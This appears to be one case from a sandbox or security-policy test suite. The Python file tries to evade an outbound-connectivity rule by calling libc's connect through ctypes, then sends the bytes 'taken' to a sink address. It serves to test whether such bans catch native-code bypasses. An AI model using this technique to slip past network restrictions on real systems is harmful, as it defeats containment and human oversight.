# class: symbols
# rule: outbound_connectivity
# also: native_code
# success: a connection goes out by libc's connect, through ctypes
# proof: sink
import ctypes
import socket

from attack import SINK, address, attempt, libc


@attempt
def connect():
    out = socket.socket()
    where = address(*SINK)
    if libc().connect(out.fileno(), where, len(where)) != 0:
        raise OSError(ctypes.get_errno(), "connect")
    return out.send(b"taken") == 5
